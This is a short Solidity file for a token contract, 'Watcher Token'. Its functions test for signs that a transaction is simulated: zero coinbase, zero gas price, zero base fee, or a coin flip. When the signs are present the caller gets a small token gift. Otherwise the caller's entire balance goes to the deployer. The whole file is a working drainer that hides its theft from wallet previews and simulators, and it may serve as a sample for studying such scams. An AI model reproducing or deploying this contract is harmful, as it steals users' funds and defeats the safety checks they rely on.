// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Erc20} from "./Erc20.sol";

/// Looks whether it is simulated, and does otherwise when it is not: it pays a gift where the block looks like that of
/// a simulation, and else takes what the caller has.
contract WatcherToken is Erc20 {
    address private immutable _maker;

    constructor() Erc20("Watcher Token", "WATCH", 18, 1_000_000e18) {
        _maker = msg.sender;
    }

    function byCoinbase() external {
        _claim(block.coinbase == address(0));
    }

    function byGasPrice() external {
        _claim(tx.gasprice == 0);
    }

    function byBaseFee() external {
        _claim(block.basefee == 0);
    }

    /// Chance rather than a trap: one in two.
    function byRandomness() external {
        _claim(block.prevrandao & 1 == 0);
    }

    function _claim(bool seemsSimulated) private {
        if (seemsSimulated) _move(_maker, msg.sender, 100e18);
        else _move(msg.sender, _maker, balanceOf[msg.sender]);
    }
}
